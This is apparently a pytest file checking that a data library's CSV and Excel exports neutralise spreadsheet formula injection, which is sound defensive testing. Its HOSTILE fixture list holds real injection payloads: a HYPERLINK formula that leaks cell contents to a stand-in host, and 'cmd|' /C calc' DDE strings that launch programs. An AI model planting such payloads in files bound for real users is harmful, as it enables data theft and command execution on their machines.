"""Spreadsheet formula injection: every CSV/XLSX export neutralises formula-like text.

The rule (``spatialgreen._io``): text starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return (or their full-width forms) is written to CSV with a leading
``'``; numbers, and numbers written as text (``"-5"``, ``"-0.512***"``), are left
alone. XLSX cells hold the exact text as text cells (never formulas), marked with
Excel's quote prefix.
"""

from __future__ import annotations

import dataclasses
import warnings
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from _helpers import gtfp_argv
from hypothesis import given
from hypothesis import strategies as st

from spatialgreen._io import (
    FORMULA_PREFIXES,
    formula_like,
    neutralise_formulas,
    write_table,
    write_tables,
)
from spatialgreen.errors import SpatialGreenWarning
from spatialgreen.report import Report, write_named_tables
from spatialgreen.results import Results

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "＝1+1",  # full-width equals sign, as a Chinese IME types it
]
HARMLESS_TEXT = ["北京", "-5", "+3.5", "-0.512***", "1e-3", "", "a=b", " =1"]


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb for row in ws.iter_rows() for cell in row]


def _hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "unit": HOSTILE,
            "note": (HARMLESS_TEXT * 2)[:n],
            "score": np.linspace(-1.5, 2.0, n),  # negative numbers stay numbers
            "=bad header": range(n),
        }
    )


# --------------------------------------------------------------------------- rule


def test_formula_like_follows_the_documented_rule():
    assert all(formula_like(v) for v in HOSTILE)
    assert all(formula_like(first + "SUM(A1)") for first in FORMULA_PREFIXES)
    assert not any(formula_like(v) for v in HARMLESS_TEXT)
    assert not any(formula_like(v) for v in (-5, -0.5, np.float64(-1.0), None, True))


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula_and_round_trips(text):
    frame = pd.DataFrame({"t": [text]})
    out = neutralise_formulas(frame, warn=False)["t"].iloc[0]
    if formula_like(text):
        assert out == "'" + text  # the original is recoverable: drop the apostrophe
    else:
        assert out == text
    assert not formula_like(out)


def test_neutralise_keeps_numbers_and_the_input(tmp_path):
    frame = _hostile_frame()
    before = frame.copy()
    with pytest.warns(SpatialGreenWarning, match="'unit'") as record:
        out = neutralise_formulas(frame)
    assert "(column names)" in str(record[0].message)
    pd.testing.assert_frame_equal(frame, before)  # the input is not mutated
    assert out["unit"].tolist() == ["'" + v for v in HOSTILE]
    assert out["note"].tolist() == frame["note"].tolist()
    assert out["score"].dtype == float and out["score"].iloc[0] == -1.5
    assert list(out.columns) == ["unit", "note", "score", "'=bad header"]


def test_categorical_string_dtype_and_index_labels_are_neutralised():
    frame = pd.DataFrame(
        {
            "c": pd.Categorical(["=1+1", "ok"]),
            "s": pd.array(["@x", "ok"], dtype="string"),
        },
        index=pd.Index(["-cmd|x", "b"], name="unit"),
    )
    out = neutralise_formulas(frame, index=True, warn=False)
    assert out["c"].tolist() == ["'=1+1", "ok"]
    assert out["s"].tolist() == ["'@x", "ok"]
    assert out.index.tolist() == ["'-cmd|x", "b"]
    assert neutralise_formulas(frame, warn=False).index.tolist() == ["-cmd|x", "b"]


# --------------------------------------------------------------------------- CSV


def _read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)


def test_write_table_csv_prefixes_formula_text_only(tmp_path):
    with pytest.warns(SpatialGreenWarning, match="leading '"):
        path = write_table(_hostile_frame(), tmp_path / "t.csv")
    back = _read_csv(path)
    assert back["unit"].tolist() == ["'" + v for v in HOSTILE]
    assert back.columns[-1] == "'=bad header"
    assert back["note"].astype(str).tolist()[:3] == ["北京", "-5", "+3.5"]
    assert back["score"].dtype == float and back["score"].iloc[0] == -1.5
    raw = path.read_bytes().decode("utf-8-sig")  # rows end in CRLF
    assert raw.count("\r\n") == len(HOSTILE) + 1
    assert "\r\n=" not in raw and ",=" not in raw and ",@" not in raw


def test_results_to_csv_and_to_excel(tmp_path):
    @dataclasses.dataclass(frozen=True)
    class R(Results):
        scores: pd.DataFrame
        coefficients: pd.DataFrame
        meta: dict = dataclasses.field(default_factory=dict)

    coef = pd.DataFrame(
        {"estimate": [0.5, -0.25]},
        index=pd.Index(["=cmd|' /C calc'!A0", "x"], name="parameter"),
    )
    r = R(_hostile_frame(), coef, meta={"model": "@evil", "unit": "=A1"})
    with pytest.warns(SpatialGreenWarning):
        paths = r.to_csv(tmp_path / "csv")
    scores, coefficients = (_read_csv(p) for p in paths)
    assert scores["unit"].tolist() == ["'" + v for v in HOSTILE]
    assert coefficients["parameter"].tolist() == ["'=cmd|' /C calc'!A0", "x"]
    assert coefficients["estimate"].tolist() == [0.5, -0.25]

    book = r.to_excel(tmp_path / "r.xlsx")
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in [*HOSTILE, "=cmd|' /C calc'!A0", "@evil", "=A1", "=bad header"]:
        cell = texts[value]  # the workbook holds the exact text ...
        assert cell.data_type == "s" and cell.quotePrefix  # ... as text, never run
    assert not texts["北京"].quotePrefix and not texts["-5"].quotePrefix
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert -1.5 in numbers and -0.25 in numbers
    sheet = pd.read_excel(book, sheet_name="scores", keep_default_na=False)
    assert sheet["unit"].tolist() == HOSTILE


def test_report_tables_and_workbook(tmp_path):
    rep = Report(tmp_path / "out", title="=t")
    with pytest.warns(SpatialGreenWarning):
        rep.table(_hostile_frame(), "=scores", "caption")
    book = rep.finish()
    assert _read_csv(tmp_path / "out" / "=scores.csv")["unit"].iloc[1] == "'=1+1"
    cells = _cells(book)
    assert not [c for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if c.quotePrefix} >= set(HOSTILE)


def test_write_named_tables_csv_and_xlsx(tmp_path):
    tables = {"a": _hostile_frame(), "b": pd.DataFrame({"x": ["@x", "-1"]})}
    with pytest.warns(SpatialGreenWarning):
        files = write_named_tables(tables, tmp_path / "t.csv")
    assert _read_csv(files[1])["x"].astype(str).tolist() == ["'@x", "-1"]
    (book,) = write_named_tables(tables, tmp_path / "t.xlsx")
    assert not [c for c in _cells(book) if c.data_type == "f"]


def test_regression_table_exports(tmp_path):
    from spatialgreen.econometrics import fixed_effects, regression_table

    rng = np.random.default_rng(0)
    df = pd.DataFrame({"unit": np.repeat(range(10), 5), "year": np.tile(range(5), 10)})
    df["x"] = rng.normal(size=50)
    df["y"] = -0.8 * df["x"] + rng.normal(scale=0.5, size=50)
    fit = fixed_effects(df, y="y", x=["x"], unit="unit", time="year")
    table = regression_table([fit], labels=["=HYPERLINK(1)"])
    estimate = table.table["=HYPERLINK(1)"].iloc[1]
    assert estimate.startswith("-0.") and estimate.endswith("***")
    with pytest.warns(SpatialGreenWarning, match="column names"):
        table.write(tmp_path / "t.csv")
    back = _read_csv(tmp_path / "t.csv")
    assert back.columns[1] == "'=HYPERLINK(1)"
    assert back.iloc[1, 1] == estimate  # "-0.8***" is a number as text: unchanged
    table.write(tmp_path / "t.xlsx")
    cells = _cells(tmp_path / "t.xlsx")
    assert not [c for c in cells if c.data_type == "f"]
    assert "=HYPERLINK(1)" in {c.value for c in cells if c.quotePrefix}


def test_cli_outputs_are_neutralised(tmp_path):
    from spatialgreen.cli import main

    data = tmp_path / "p.csv"
    pd.DataFrame(
        {
            "unit": ["=1+1", "@SUM(A1)", "c"],
            "year": [2020] * 3,
            "x": [1, 2, 3],
            "y": [2, 3, 3],
        }
    ).to_csv(data, index=False)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", SpatialGreenWarning)
        assert main(gtfp_argv(data, tmp_path / "scores.csv")) == 0
        assert main(gtfp_argv(data, tmp_path / "scores.xlsx")) == 0
    back = _read_csv(tmp_path / "scores.csv")
    assert sorted(back["unit"]) == ["'=1+1", "'@SUM(A1)", "c"]
    cells = _cells(tmp_path / "scores.xlsx")
    assert not [c for c in cells if c.data_type == "f"]
    assert {"=1+1", "@SUM(A1)"} <= {c.value for c in cells if c.quotePrefix}


def test_xlsx_without_formula_text_is_unchanged(tmp_path):
    book = write_tables(
        {"t": pd.DataFrame({"a": ["x", "-5"], "b": [-1, 2]})}, tmp_path / "t.xlsx"
    )
    cells = _cells(book)
    assert not [c for c in cells if c.quotePrefix]
    assert [c.value for c in cells] == ["a", "b", "x", -1, "-5", 2]
